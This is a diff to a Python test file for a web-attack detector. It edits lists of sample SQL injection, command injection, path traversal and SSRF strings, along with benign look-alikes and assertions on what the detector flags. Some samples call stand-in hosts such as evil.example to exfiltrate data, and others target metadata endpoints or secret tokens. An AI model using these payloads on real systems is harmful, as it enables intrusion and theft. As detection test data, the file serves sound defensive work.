@@ -23,6 +23,7 @@ from guardrails.engine.findings import Finding
 from guardrails.engine.kinds import kind_of
 from guardrails.engine.ngrams import Features, LinearModel, load
 from guardrails.engine.segments import Kind, Segment, Surface
+from guardrails.presets import PRESETS
 from guardrails.training import values
 from guardrails.training import web_attack as training
 
@@ -53,9 +54,9 @@ ATTACKS = {
         "0 AND (SELECT 1 FROM (SELECT SLEEP(5))a)", "1;WAITFOR DELAY '0:0:9'--", "' ORDER BY 7-- ",
         "9' and extractvalue(1,concat(0x7e,version()))-- -", "Bobby'); DELETE FROM students;--",
         "'; copy (select '') to program 'curl evil.example'--", "or 'a' = n'a'", "or 2 between 1 and 3",
-        "\u2019 or \u20181\u2019=\u20181", "9or3=3", "' || app.adduser('eve', 'x') || '", "'; desc users; --",
-        "' grant connect to eve; --", "uni/**/on sel/**/ect 1", "(select top 1 name", "'^'", "3' LIMIT 0,1--",
-        "' INSERT INTO logs (a) VALUES ('b')--", "'+1+'", "'))", "%27%22%60",
+        "9or3=3", "or 2 not between 1 and 3", "' || app.adduser('eve', 'x') || '", "'; desc users; --",
+        "' grant connect to eve; --", "uni/**/on sel/**/ect 1", "(select top 1 name", "3' LIMIT 0,1--",
+        "' INSERT INTO logs (a) VALUES ('b')--", "'+1+'",
     ],
     "XSS": [
         "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=confirm(2)>",
@@ -71,8 +72,10 @@ ATTACKS = {
         "--upload-pack=touch /tmp/x", "-oProxyCommand=calc", "photo.png & calc.exe", "photo.png|id>/tmp/x",
         "x; docker run -v /:/host alpine", "x | mail -s y eve@evil.example < /etc/hostname",
         "; frobnicate", "| frobnicate --all", "') && frobnicate a b", "|| frobnicate /srv/x", "& frobnicate /q &",
+        "; frobnicate\nx", "; ; frobnicate --all", "|&frobnicate --all", ";'frobnicate' --all", ";A=1 frobnicate --all",
+        ";(frobnicate --all)", "| frobnicate --all #|", "&& evil.sh", "$(frobnicate $(x))", "')$(frobnicate --all)",
         "$(frobnicate --all)", "`frobnicate --all`", ";fro'b'nicate",
-        "& echo x7q", "`echo x7q`", ";/us?/bi?/frob", "& 9frob x a.9z &", ";$HOME",
+        "& echo x7q &", ";/us?/bi?/frob", "& 9frob x a.9z &", ";$HOME",
         "a=fro;b=b;$a$b", "%3b%20frobnicate",
     ],
     "PATH_TRAVERSAL": [
@@ -81,7 +84,7 @@ ATTACKS = {
         "....//....//etc/hosts", "uploads/../../../secret.txt",
         "/run/secrets/kubernetes.io/serviceaccount/token", "..%uEFC8..%uEFC8etc%uEFC8issue",
         "%e0%80%ae%e0%80%ae\\etc\\issue",
-        "https://a.example/x/../../y", "https://a.example/me/../you/1",
+        "https://a.example/x/../../y", "https://a.example/%2e%2e",
         "https://a.example/x/%2e%2e/y", "https://a.example/..;/y", "https://a.example/?file=/../../y",
         "%c0%5e%c0%5e%uF025boot.ini", "..0x5c..0x5cwindows0x5cx", ".?/.?/.?/etc/issue",
     ],
@@ -104,6 +107,16 @@ ATTACKS = {
     "XPATH_INJECTION": ["x'] | //user/*['", "' or count(/*)=1 or 'a'='b"],
 }  # fmt: skip
 HARMLESS = [
+    "fix(alert)(#12)", "Fire drill (alert) (building 2)", "(alert)(ing|ed)", "int[][][][][][]", "||spoiler||",
+    "|| default", "&& break", "& x & y", "$(version)", "$(params.image)", "$(in thousands)", "`x = 5`", "price=5;$10",
+    "color=red;$primary", "2024.07.03.1", "010.45.67.89", "0x1.2", "\uff11\uff12.5", "192.168.1.0/255.255.255.0",
+    "10.0.0.0/8,172.16.0.0/12", "127.0.0.1:53/udp", "10.0.0.1:/export", "lvh.me", "[::1]:3000",
+    "localhost/127.0.0.1:9300", "http:response.status", "https:\\/\\/example.com",
+    "https://a.example/docs/../logo.png", "https://a.example/p?to=../../home", "Kids' limit 2 per order",
+    "\"Insert into template\" button crashes", "\"grant access to users\" flow",
+    "\u201cx\u201d or \u201cy\u201d = \u201cz\u201d", "or 3 > 2 votes", "or 5 # five", "(Select top 5 candidates)",
+    "AND \"Story Points\" > 3", "\"|\"", "'-'", "\");", "%22%22", "src/**/test lib/**/test", "????/??/??/*.log",
+    "AND(|(a=x*))",
     "O'Brien & Sons", "It's 5 o'clock and we're late", "please select a date from the list", "drop the table off at 5",
     "x > 5 and y < 3", "10% off; today only", "Tom & Jerry; see also: Cat", "C# and C++", "key='value'; path=/",
     "status='open' AND priority='high'", "name contains 'budget' and trashed = false", "a | b | c", "Hello {{name}}!",
@@ -559,11 +572,13 @@ def test_a_bare_host_of_a_cloud_is_known() -> None:
 @claim("guardrails.web-attack-addresses")
 @pytest.mark.parametrize(
     "text",
-    ["0x7f.1", "0x7F.0x00.0x00.0x01", "0177.0.0.1", "127.000.000.001", "127%2e0%2e0%2e1", "127%252e0.0.1", "[::1]",
-     "127\u30020\u30020\u30021", "\u2460\u2461\u2466.0.0.1", "0177.0.0.1/", "[::]:80/", "localhost/admin",
-     "nicob.net/x", "127.0.0.1:2375/v1.24/containers/json", "localtest.me", "127.0.0.1.nip.io", "localhost:+11211aaa",
+    ["0x7f.1", "0x7F.0x00.0x00.0x01", "0177.0.0.1", "127.000.000.001", "127%2e0%2e0%2e1", "127%252e0.0.1",
+     "LOCALHOST/x", "127\u30020\u30020\u30021", "\u2460\u2461\u2466.0.0.1", "0177.0.0.1/", "[::]:80/",
+     "localhost/admin", "nicob.net/x", "127.0.0.1:2375/v1.24/containers/json", "x.localtest.me",
+     "127.0.0.1.nip.io", "localhost:+11211aaa",
      "http://\u24f5\u24fd\u24f6.\u24f5\u24fa\u24fc.\u24f5.\u24f5/", "https:/\\evil.example", "http:/\\/\\evil.example",
-     "https:evil.example", "http://////evil.example/", "https://192.0.2.2#.192.0.2.3/", "http://a.example?@b.example"],
+     "fd00:ec2::254", "169.254.169.254:80", "localhost./admin", "127.0.0.1?x=1", "localhost\\admin",
+     "metadata.google.internal:80/computeMetadata/v1/", "http://////evil.example/", "https://192.0.2.2#.192.0.2.3/", "http://a.example?@b.example"],
 )  # fmt: skip
 def test_an_address_that_hides_is_found_wherever_it_stands(text: str) -> None:
     assert "SSRF" in found(text, "text")
@@ -571,13 +586,14 @@ def test_an_address_that_hides_is_found_wherever_it_stands(text: str) -> None:
 
 @claim("guardrails.web-attack-addresses")
 def test_an_argument_for_hosts_takes_numbers_for_addresses_and_plain_ones_as_they_are() -> None:
-    for name in ("host", "targetHost", "server_ip", "hostname"):
+    for name in ("host", "targetHost", "server_ip", "hostname", "ipAddress"):
         for address in ("127.1", "2130706433", "0x7f000001", "0x7f.1"):
             assert found(address, name) == {"SSRF"}
-        for address in ("127.0.0.1", "localhost", "db.example.com", "9.9.9.9", "10.0.0.7:5432"):
+        for address in ("127.0.0.1", "localhost", "db.example.com", "9.9.9.9", "10.0.0.7:5432", "::1", "fe80::1", "10"):
             assert found(address, name) == set()
-    for name in ("zip", "count", "relationship"):
+    for name in ("zip", "count", "relationship", "max_hosts", "requests_per_ip"):
         assert found("01001", name) == set()
+        assert found("2130706433", name) == set()
     assert found("127.1", "host", config={"allowed_hosts": ["127.1"]}) == set()
 
 
@@ -585,7 +601,23 @@ def test_an_argument_for_hosts_takes_numbers_for_addresses_and_plain_ones_as_the
 def test_what_begins_like_a_command_is_at_home_where_commands_are() -> None:
     assert found("| frobnicate --all", "text") == {"COMMAND_INJECTION"}
     assert found("| frobnicate --all", "command") == set()
-    assert found("&& frobnicate --all\n|| frobnicate --none", "new_string") == set()
+    assert found("&& frobnicate --all", "new_string") == set()
+    for name in ("query", "filter", "jq", "type", "row"):
+        assert found("| frobnicate 20", name) == set()
+    for code in ("this[\"handle\" + type](e)", "items[0].map(alert)", "# Release\n\n- Fix (alert) (#42)\n"):
+        assert found(code, "content") == set()
+
+
+@claim("guardrails.web-attack-kinds")
+@pytest.mark.parametrize(
+    "text",
+    ["; thanks", "; see above", "; updated README.md", "&& isReady", "|| fallback", "| item | 3.50", "`pytest -x`",
+     "localhost:5000/app", "192.168.001.010"],
+)  # fmt: skip
+def test_what_is_as_likely_writing_is_told_with_less_certainty_than_balanced_asks_for(text: str) -> None:
+    (finding,) = scan(text, "text")
+    bar = next(rule.threshold for rule in PRESETS["balanced"].rules if rule.id == "web-attack")
+    assert BAR <= finding.score < bar
 
 
 @claim("guardrails.web-attack-training")
